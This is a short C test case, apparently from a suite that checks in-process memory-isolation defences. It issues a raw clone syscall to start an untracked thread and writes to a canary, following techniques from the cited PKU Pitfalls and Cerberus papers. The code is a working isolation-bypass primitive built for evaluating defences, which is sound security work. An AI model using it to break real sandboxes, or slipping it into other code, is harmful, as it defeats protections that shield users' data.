/* Tries: to start a thread, which begins with rights of its own and is in nobody's books
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); Cerberus (Voulimeneas et al.,
 *   EuroSys 2022)
 * Observed: A canary that the thread has written to.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    static uint8_t stack[4096];
    long thread;
    register uint64_t victim __asm__("r12") = at->canary_global;
    __asm__ volatile("syscall\n\ttest %%rax, %%rax\n\tjnz 1f\n\t"
                     "movq $0xbad, (%2)\n\tmov $60, %%eax\n\txor %%edi, %%edi\n\tsyscall\n1:"
                     : "=a"(thread)
                     : "a"(SYS_clone), "r"(victim), "D"(0x50f00), "S"(stack + sizeof(stack)), "d"(0)
                     : "rcx", "r8", "r9", "r10", "r11",
                       "memory"); /* memory, files, signals, thread */
    for (int i = 0; i < 1000 && thread > 0; i++)
        kernel3(SYS_sched_yield, 0, 0, 0);
    return 0;
}
